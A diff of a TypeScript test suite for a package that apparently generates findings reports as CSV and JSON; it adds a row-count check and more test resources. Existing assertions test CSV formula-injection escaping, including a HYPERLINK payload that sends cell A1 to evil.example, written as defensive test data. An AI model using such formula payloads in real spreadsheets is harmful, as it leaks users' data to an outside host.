@@ -10,7 +10,7 @@ import { listOf, makeData } from './make-data.ts'
 import { plainReport } from './make-report.ts'
 import { folder, type Made, makePackage, newSigner, run, unpacked } from './workbench.ts'
 
-const data = makeData({ accounts: ['111122223333', '444455556666'] })
+const data = makeData({ resources: 120, accounts: ['111122223333', '444455556666'] })
 
 describe('a package', () => {
   let made: Made
@@ -85,6 +85,7 @@ describe('a package', () => {
       const rows: string[][] = JSON.parse(parsed)
       expect(rows.flat().filter(cell => /^\s*[=+\-@]|^[\t\r\n]/.test(cell))).toEqual([])
       expect(new Set(rows.map(row => row.length)).size).toBe(1)
+      expect(rows.length).toBe(1 + (await json(name.replace('csv', 'json'))).length)
     }
     const rows = (await read('findings.csv')).toString()
     expect(rows).toContain(`"'==HYPERLINK(""http://evil.example/?x=""&A1,""click"")`)
